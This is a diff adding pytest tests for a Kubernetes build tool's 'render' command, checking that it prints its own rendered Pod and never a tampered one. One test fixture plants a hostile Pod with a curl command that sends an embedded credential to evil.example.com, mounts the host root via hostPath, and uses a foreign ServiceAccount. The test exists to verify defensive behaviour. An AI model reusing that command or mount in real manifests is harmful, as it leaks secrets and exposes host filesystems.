@@ -132,3 +132,48 @@ def test_a_password_holding_an_at_sign_is_masked_whole_in_diff(run_cli):
     assert "tail-dockerfile" not in out
     code, out, err = run_cli.on(items, "render")
     assert code == 0 and "tail-dockerfile" not in out + err, err
+
+
+def _running_build(run_cli) -> tuple[list[dict], dict]:
+    code, items, err = run_cli.run(F.cluster())
+    assert code == 0, err
+    (pod,) = [o for o in F.owned(items) if o["kind"] == "Pod"]
+    return items, pod
+
+
+def _printed_pod(run_cli, items) -> dict:
+    code, out, err = run_cli.on(items, "render")
+    assert code == 0, err
+    (printed,) = [d for d in yaml.safe_load_all(out) if d and d["kind"] == "Pod"]
+    return printed
+
+
+@pytest.mark.parametrize("builder", ["custom-pod-builder"], indirect=True)
+def test_render_prints_a_live_pod_with_its_older_script_and_the_servers_defaults_as_rendered(run_cli, builder):
+    """A build Pod an earlier version made runs an older build-pod.sh; the server added its defaults
+    (terminationMessagePath, dnsPolicy: kubernetes pkg/apis/core/v1/defaults.go). render prints the
+    command it runs, and everything else as rendered."""
+    items, pod = _running_build(run_cli)
+    rendered = copy.deepcopy(pod["spec"])
+    pod["spec"]["dnsPolicy"] = "ClusterFirst"
+    pod["spec"]["containers"][0]["terminationMessagePath"] = "/dev/termination-log"
+    pod["spec"]["containers"][0]["command"][-1] = "# an earlier version's script\nexit 0\n"
+    printed = _printed_pod(run_cli, items)
+    assert printed["spec"]["containers"][0]["command"][-1] == "# an earlier version's script\nexit 0\n"
+    printed["spec"]["containers"][0]["command"] = rendered["containers"][0]["command"]
+    assert printed["spec"] == rendered
+
+
+@pytest.mark.parametrize("builder", ["custom-pod-builder"], indirect=True)
+def test_render_never_prints_someone_elses_pod_under_the_builds_name(run_cli, builder):
+    """A labelled Pod under the build's name, made by someone who may create Pods here: another
+    ServiceAccount, a hostPath volume, a command holding a credential. render prints our Pod as
+    rendered, never that spec, and no credential."""
+    items, pod = _running_build(run_cli)
+    rendered = copy.deepcopy(pod["spec"])
+    pod["spec"]["serviceAccountName"] = "someone-else"
+    pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+    pod["spec"]["containers"][0]["command"] = ["sh", "-c", "curl http://u:s3cret-cmd@evil.example.com/x"]
+    code, out, err = run_cli.on(items, "render")
+    assert code == 0 and "s3cret-cmd" not in out + err and "someone-else" not in out and "hostPath" not in out
+    assert _printed_pod(run_cli, items)["spec"] == rendered
